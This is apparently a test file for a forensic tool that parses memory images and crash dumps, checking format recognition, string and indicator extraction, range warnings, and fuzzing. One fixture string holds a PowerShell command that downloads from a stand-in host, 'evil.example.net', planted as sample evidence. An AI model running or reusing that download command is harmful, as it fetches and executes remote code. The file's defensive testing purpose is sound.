import { describe, expect, it } from 'vitest'
import { lime, rawMemory } from '../../../../test/harness/evidence/disks.ts'
import { fuzz, linesOf } from '../../../../test/harness/evidence/fuzz.ts'
import { formats } from '../formats.ts'
import { memoryImage } from './memory-image.ts'

const read = async (bytes: Buffer) => {
  const lines = await linesOf(formats, bytes)
  return {
    title: lines.map((line) => (line.kind === 'summary' ? line.title : ''))[0],
    facts: Object.fromEntries(
      lines.flatMap((line) => (line.kind === 'summary' ? line.facts : [])).map(({ name, value }) => [name, value]),
    ),
    rows: (table: string) => lines.flatMap((line) => (line.kind === 'row' && line.table === table ? [line] : [])),
    seen: lines.flatMap((line) => (line.kind === 'observable' ? [`${line.type} ${line.value}`] : [])),
    warnings: lines.flatMap((line) => (line.kind === 'warning' ? [line.detail] : [])),
  }
}
const words = (...pairs: [at: number, value: number][]) => {
  const bytes = Buffer.alloc(8192)
  for (const [at, value] of pairs) bytes.writeUInt32LE(value >>> 0, at)
  return bytes
}
const core = (): Buffer => {
  const bytes = words(
    [16, 4 | (62 << 16)],
    [32, 64],
    [54, 56 | (1 << 16)],
    [64, 1],
    [72, 4096],
    [88, 0x100000],
    [96, 4096],
  )
  bytes.write('\x7fELF\x02\x01', 'latin1')
  return bytes
}
const crash = (): Buffer => {
  const bytes = words([12, 19_041], [0x30, 0x8664], [0x34, 4], [0x38, 0xd1])
  bytes.write('PAGEDU64', 'latin1')
  return bytes
}

describe('a memory image', () => {
  it.each([
    ['Memory image of LiME', lime(0x1000, Buffer.alloc(4096)), { ranges: '1' }],
    ['Memory image as an ELF core', core(), { machine: 'x64', ranges: '1' }],
    ['Crash dump of Windows', crash(), { build: '19041', machine: 'x64', processors: '4', 'stop code': '0x000000d1' }],
    [
      'Minidump of a process',
      Buffer.concat([Buffer.from('MDMP'), words([4, 3], [16, 1_700_000_000])]),
      { streams: '3', taken: '2023-11-14T22:13:20.000Z' },
    ],
    ['Hibernation file of Windows', Buffer.concat([Buffer.from('HIBR'), Buffer.alloc(8192)]), { state: 'HIBR' }],
    ['Memory image of AVML', Buffer.concat([Buffer.from('AVML'), Buffer.alloc(8192)]), {}],
    ['Suspended state of VMware', words([0, 0xbed2bed0], [8, 3]), { groups: '3' }],
    ['Raw memory image', rawMemory('x'), {}],
  ])('is known for what it is: %s', async (title, bytes, facts) => {
    const found = await read(bytes)
    expect([found.title, found.facts]).toMatchObject([title, facts])
  })

  it('gives the texts that may tell something, of one byte a sign and of two, with what is seen in them', async () => {
    const text = 'powershell -c iwr http://evil.example.net/a from 198.41.0.4 for bob@example.org'
    const { rows, seen } = await read(rawMemory(text))
    expect(rows('strings')).toMatchObject([{ cells: { text, encoding: 'ASCII' }, at: { offset: 500_000 } }])
    expect(seen).toEqual(['url http://evil.example.net/a', 'mail bob@example.org', 'ipv4 198.41.0.4'])
    const wide = rawMemory('')
    wide.write('C:\\Windows\\evil.exe', 600_001, 'utf16le')
    expect((await read(wide)).rows('strings')).toMatchObject([
      { cells: { text: 'C:\\Windows\\evil.exe', encoding: 'UTF-16' }, at: { offset: 600_001 } },
    ])
  })

  it('finds a text that stands where two pieces meet, once', async () => {
    const bytes = Buffer.concat([rawMemory(''), Buffer.alloc(1024 * 1024)])
    bytes.write('http://evil.example.net/path', 1024 * 1024 - 10, 'latin1')
    expect((await read(bytes)).rows('strings').map(({ cells }) => cells['text'])).toEqual([
      'http://evil.example.net/path',
    ])
  })

  it('tells where the chain of ranges breaks off', async () => {
    const image = Buffer.concat([lime(0, Buffer.alloc(4096)), lime(0x10000, Buffer.alloc(4096))])
    expect((await read(image)).rows('ranges').map(({ cells }) => cells['start'])).toEqual(['0x0', '0x10000'])
    expect((await read(image.subarray(0, 6000))).warnings).toEqual(['The last range is longer than the file.'])
    expect((await read(Buffer.concat([image, Buffer.from('x')]))).warnings).toEqual([
      'The chain of ranges breaks off at 8256.',
    ])
  })

  it('bears mutated files', async () => {
    const samples = [lime(0x1000, Buffer.from('http://evil.example.net/ '.repeat(50))), core(), crash()]
    const { faults, rounds, slowestMs } = await fuzz(memoryImage, samples, { patienceMs: 1500 })
    expect(faults).toEqual([])
    expect(rounds).toBeGreaterThan(50)
    expect(slowestMs).toBeLessThan(1500)
  })
})
